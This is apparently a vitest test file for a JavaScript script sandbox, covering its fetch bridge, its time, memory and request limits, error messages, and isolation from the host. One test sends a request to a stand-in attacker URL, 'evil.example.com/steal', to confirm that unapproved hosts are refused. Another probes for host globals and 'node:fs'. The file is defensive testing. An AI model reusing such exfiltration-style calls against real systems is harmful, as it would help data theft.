import { describe, expect, it } from 'vitest';
import { runScript } from '../../../src/sandbox/runScript.ts';
import type { ConsoleEntry, WorkerLike } from '../../../src/sandbox/types.ts';
import { lines, run, runJson } from './harness.ts';

describe('runScript: fetch bridge', () => {
  it('runs top-level await and round-trips a JSON request and response', async () => {
    const seen: Request[] = [];
    const out = await runJson(
      `const res = await fetch('https://slack.com/api/chat.postMessage', {
         method: 'POST',
         headers: { 'Content-Type': 'application/json; charset=utf-8', Authorization: 'Bearer xoxb-1' },
         body: JSON.stringify({ channel: 'C1', text: 'héllo' }),
       });
       const data = await res.json();
       console.log(JSON.stringify({ status: res.status, ok: res.ok, statusText: res.statusText,
         ts: data.ts, echoed: data.echoed, header: res.headers.get('X-Slack-Req-Id') }));`,
      {
        fetch: async (request) => {
          seen.push(request.clone());
          const body = (await request.json()) as { text: string };
          return Response.json({ ok: true, ts: '1.2', echoed: body.text }, { status: 201, statusText: 'Created', headers: { 'x-slack-req-id': 'r1' } });
        },
      },
    );
    expect(out).toEqual([{ status: 201, ok: true, statusText: 'Created', ts: '1.2', echoed: 'héllo', header: 'r1' }]);
    expect(seen).toHaveLength(1);
    expect(seen[0].method).toBe('POST');
    expect(seen[0].url).toBe('https://slack.com/api/chat.postMessage');
    expect(seen[0].headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(seen[0].headers.get('authorization')).toBe('Bearer xoxb-1');
    expect(await seen[0].json()).toEqual({ channel: 'C1', text: 'héllo' });
  });

  it('does not report a failed run until the requests it left in flight are answered', async () => {
    let answered = false;
    const result = await run(
      `await Promise.all([fetch('https://slack.com/api/slow'), fetch('https://elsewhere.example/')]);`,
      {
        fetch: async (request) => {
          if (request.url.includes('elsewhere')) throw new Error('not a replica host');
          await new Promise((done) => setTimeout(done, 300));
          answered = true;
          return Response.json({ ok: true });
        },
      },
    );
    expect(result.ok).toBe(false);
    expect(result.error).toMatch(/not a replica host/);
    expect(answered).toBe(true);
  });

  it('sends a URLSearchParams body form-encoded', async () => {
    let form: Record<string, string> = {};
    let contentType = '';
    const result = await run(
      `await fetch('https://slack.com/api/conversations.list', {
         method: 'POST', body: new URLSearchParams({ types: 'public_channel,private_channel', text: 'a b&c=é' }) });`,
      {
        fetch: async (request) => {
          contentType = request.headers.get('content-type') ?? '';
          form = Object.fromEntries(new URLSearchParams(await request.text()));
          return Response.json({ ok: true });
        },
      },
    );
    expect(result.ok).toBe(true);
    expect(contentType).toBe('application/x-www-form-urlencoded;charset=UTF-8');
    expect(form).toEqual({ types: 'public_channel,private_channel', text: 'a b&c=é' });
  });

  it('sends FormData with a Blob as multipart the handler can parse', async () => {
    const fields: Record<string, unknown> = {};
    const result = await run(
      `const form = new FormData();
       form.append('attributes', JSON.stringify({ name: 'notes.txt', parent: { id: '0' } }));
       form.append('file', new Blob(['line 1\\n', new Uint8Array([0xe2, 0x82, 0xac])], { type: 'text/plain' }), 'notes.txt');
       const res = await fetch('https://upload.box.com/api/2.0/files/content', { method: 'POST', body: form });
       console.log(res.status);`,
      {
        fetch: async (request) => {
          const form = await request.formData();
          const file = form.get('file') as File;
          fields.attributes = JSON.parse(form.get('attributes') as string);
          fields.file = { name: file.name, type: file.type, text: await file.text() };
          fields.contentType = request.headers.get('content-type');
          return new Response(null, { status: 201 });
        },
      },
    );
    expect(result.ok).toBe(true);
    expect(lines(result)).toEqual(['201']);
    expect(fields.attributes).toEqual({ name: 'notes.txt', parent: { id: '0' } });
    expect(fields.file).toEqual({ name: 'notes.txt', type: 'text/plain', text: 'line 1\n€' });
    expect(fields.contentType).toMatch(/^multipart\/form-data; boundary=/);
  });

  it('sends bytes and reads binary responses', async () => {
    const out = await runJson(
      `const res = await fetch('https://files.example.com/blob', { method: 'PUT', body: new Uint8Array([1, 2, 255]) });
       console.log(JSON.stringify(Array.from(new Uint8Array(await res.arrayBuffer()))));`,
      { fetch: async (request) => new Response(new Uint8Array(await request.arrayBuffer()).reverse()) },
    );
    expect(out).toEqual([[255, 2, 1]]);
  });

  it('rejects a fetch the handler refuses with a TypeError carrying its message', async () => {
    const refuse = async (request: Request): Promise<Response> => {
      throw new TypeError(`No replica serves ${new URL(request.url).host}`);
    };
    const caught = await runJson(
      `try { await fetch('https://evil.example.com/steal'); } catch (e) {
         console.log(JSON.stringify({ isTypeError: e instanceof TypeError, message: e.message })); }`,
      { fetch: refuse },
    );
    expect(caught).toEqual([{ isTypeError: true, message: 'No replica serves evil.example.com' }]);

    const uncaught = await run(`await fetch('https://evil.example.com/steal');`, { fetch: refuse });
    expect(uncaught).toMatchObject({ ok: false, reason: 'error', error: 'TypeError: No replica serves evil.example.com (line 1)' });
    expect(uncaught.requests).toEqual([expect.objectContaining({ url: 'https://evil.example.com/steal', status: 0 })]);
  });

  it('follows redirects as fetch() does', async () => {
    const out = await runJson(
      `const res = await fetch('https://api.box.com/2.0/files/1/content');
       console.log(JSON.stringify({ url: res.url, redirected: res.redirected, text: await res.text() }));
       const manual = await fetch('https://api.box.com/2.0/files/1/content', { redirect: 'manual' });
       console.log(JSON.stringify({ status: manual.status, location: manual.headers.get('location') }));`,
      {
        fetch: async (request) =>
          request.url.endsWith('/content')
            ? new Response(null, { status: 302, headers: { location: 'https://dl.boxcloud.com/d/1' } })
            : new Response('file body'),
      },
    );
    expect(out).toEqual([
      { url: 'https://dl.boxcloud.com/d/1', redirected: true, text: 'file body' },
      { status: 302, location: 'https://dl.boxcloud.com/d/1' },
    ]);
  });
});

describe('runScript: limits', () => {
  it('stops an endless loop at the time limit, and the next script runs in a fresh worker', async () => {
    const looped = await run('let n = 0;\nwhile (true) { n++; }', { limits: { timeMs: 300 } });
    expect(looped).toMatchObject({ ok: false, reason: 'timeout', error: 'Script stopped: it ran longer than 0.3 s (time limit)' });

    const next = await run('console.log(1 + 1);');
    expect(next.ok).toBe(true);
    expect(lines(next)).toEqual(['2']);
  });

  it('stops a script that waits past the time limit', async () => {
    const result = await run('await new Promise(() => {}); await fetch("https://a.example.com");', {
      limits: { timeMs: 300 },
    });
    expect(result).toMatchObject({ ok: false, reason: 'timeout' });
  });

  it('stops a big allocation loop at the memory limit', async () => {
    const result = await run('const a = [];\nfor (;;) a.push(new Uint8Array(1 << 20));', {
      limits: { memoryBytes: 32 * 1024 * 1024 },
    });
    expect(result).toMatchObject({ ok: false, reason: 'memory', error: 'Script stopped: it used more than 32 MB of memory (memory limit)' });
  });

  it('stops a loop of small objects at the memory limit', async () => {
    const result = await run('const a = [];\nfor (;;) a.push({ a: 1, b: [1, 2, 3] });', {
      limits: { memoryBytes: 16 * 1024 * 1024 },
    });
    expect(result).toMatchObject({ ok: false, reason: 'memory' });
  });

  it('rejects fetches over the request limit and reports the run as over it', async () => {
    let handled = 0;
    const result = await run(
      `for (let i = 0; i < 5; i++) {
         try { await fetch('https://a.example.com/' + i); console.log('ok ' + i); }
         catch (e) { console.log(e.name + ': ' + e.message); }
       }`,
      {
        limits: { maxRequests: 3 },
        fetch: async () => {
          handled++;
          return new Response('{}');
        },
      },
    );
    expect(handled).toBe(3);
    expect(lines(result)).toEqual([
      'ok 0',
      'ok 1',
      'ok 2',
      'TypeError: Request limit reached: a script may make at most 3 requests',
      'TypeError: Request limit reached: a script may make at most 3 requests',
    ]);
    expect(result).toMatchObject({ ok: false, reason: 'requests', error: 'Script exceeded the request limit: it tried to make more than 3 requests' });
  });

  it('keeps console output within its budget, with a note', async () => {
    const result = await run(`for (let i = 0; i < 100; i++) console.log('0123456789');`, { limits: { maxConsoleChars: 35 } });
    expect(result.ok).toBe(true);
    expect(lines(result)).toEqual(['0123456789', '0123456789', '0123456789', '01234', '… console output truncated: more than 35 characters']);
  });

  it('stops the run when the signal aborts', async () => {
    const controller = new AbortController();
    const pending = run('await new Promise((resolve) => setTimeout(resolve, 5000));', { signal: controller.signal });
    setTimeout(() => controller.abort(), 100);
    expect(await pending).toMatchObject({ ok: false, reason: 'aborted', error: 'Script stopped: the run was cancelled' });

    const already = await run('console.log(1)', { signal: AbortSignal.abort() });
    expect(already).toMatchObject({ ok: false, reason: 'aborted', console: [] });
  });
});

describe('runScript: errors', () => {
  it('reports an uncaught throw with its name, message and line', async () => {
    const result = await run("const user = {};\nconsole.log('before');\nconsole.log(user.profile.name);");
    expect(result).toMatchObject({ ok: false, reason: 'error', error: "TypeError: cannot read property 'name' of undefined (line 3)" });
    expect(lines(result)).toEqual(['before']);
  });

  it('reports a rejection of the module after an await, a syntax error, and a non-error throw', async () => {
    expect(await run("await null;\n\nthrow new RangeError('bad page size');")).toMatchObject({
      error: 'RangeError: bad page size (line 3)',
    });
    // A script that does not parse never ran ('syntax', not run); a SyntaxError thrown as it runs is an error.
    expect(await run('const a = 1;\nlet = = 2;')).toMatchObject({ reason: 'syntax', error: expect.stringMatching(/^SyntaxError: .* \(line 2\)$/) });
    expect(await run("console.log(1);\nJSON.parse('{');")).toMatchObject({ reason: 'error', console: [{ text: '1' }], error: expect.stringMatching(/^SyntaxError/) });
    expect(await run("throw 'plain string'")).toMatchObject({ reason: 'error', error: 'Uncaught plain string' });
  });

  it('reports an error thrown in a timer callback', async () => {
    const result = await run("setTimeout(() => {\n  JSON.parse('{nope');\n}, 10);");
    expect(result).toMatchObject({ ok: false, reason: 'error', error: expect.stringMatching(/^SyntaxError: .*\(line 2\)$/) });
  });

  it('stops runaway recursion with a message', async () => {
    const result = await run('function f() { return f() + 1; }\nf();');
    expect(result).toMatchObject({ ok: false, reason: 'error', error: 'InternalError: stack overflow (line 1)' });
  });

  it('reports a worker that cannot be created, or dies, instead of throwing', async () => {
    const broken = await runScript('1', {
      fetch: async () => new Response(''),
      createWorker: () => {
        throw new Error('no workers here');
      },
    });
    expect(broken).toMatchObject({ ok: false, reason: 'crash', error: 'Script stopped: the sandbox crashed (no workers here)' });

    const dying = await runScript('1', {
      fetch: async () => new Response(''),
      createWorker: () => {
        let onError: (error: unknown) => void = () => {};
        const worker: WorkerLike = {
          postMessage: () => setTimeout(() => onError(new Error('worker exited with code 1'))),
          onMessage: () => {},
          onError: (listener) => (onError = listener),
          terminate: () => {},
        };
        return worker;
      },
    });
    expect(dying).toMatchObject({ ok: false, reason: 'crash', error: 'Script stopped: the sandbox crashed (worker exited with code 1)' });
  });
});

describe('runScript: console and isolation', () => {
  it('captures console output in order, with levels, and streams it as it happens', async () => {
    const streamed: ConsoleEntry[] = [];
    const result = await run(
      `console.log('plain', 42, { a: [1, { b: 'x' }], c: null }, [1, 2]);
       console.info('info');
       await fetch('https://a.example.com');
       console.warn('warn %s=%d', 'n', 7);
       console.error(new Error('boom'));
       console.debug(new Map([['k', 1]]), new Set([1]), undefined, true);`,
      { onConsole: (entry) => streamed.push(entry) },
    );
    expect(result.ok).toBe(true);
    expect(result.console.map((e) => e.level)).toEqual(['log', 'info', 'warn', 'error', 'debug']);
    expect(result.console[0].text).toBe("plain 42 { a: [ 1, { b: 'x' } ], c: null } [ 1, 2 ]");
    expect(result.console[2].text).toBe('warn n=7');
    expect(result.console[3].text).toMatch(/^Error: boom\n {4}at .*script\.js:5/);
    expect(result.console[4].text).toBe("Map(1) { 'k' => 1 } Set(1) { 1 } undefined true");
    expect(streamed).toEqual(result.console);
  });

  it('prints an API answer’s nested objects (a Box folder’s items) to a useful depth, not [Object]', async () => {
    const result = await run(`console.log({ entries: [{ id: '1', path_collection: { entries: [{ id: '0', name: 'All Files' }] } }] });`);
    expect(result.console[0].text).toBe("{ entries: [ { id: '1', path_collection: { entries: [ { id: '0', name: 'All Files' } ] } } ] }");
  });

  it('gives the script nothing of the worker or the host', async () => {
    const out = await runJson(
      `const names = ['process', 'require', 'postMessage', 'self', 'importScripts', 'onmessage', 'close', 'host', 'module', 'Deno', 'Bun', 'WorkerGlobalScope'];
       console.log(JSON.stringify(names.map((n) => typeof globalThis[n])));
       let imported;
       try { await import('node:fs'); imported = 'yes'; } catch (e) { imported = 'no'; }
       console.log(JSON.stringify(imported));`,
    );
    expect(out).toEqual([Array(12).fill('undefined'), 'no']);
  });
});
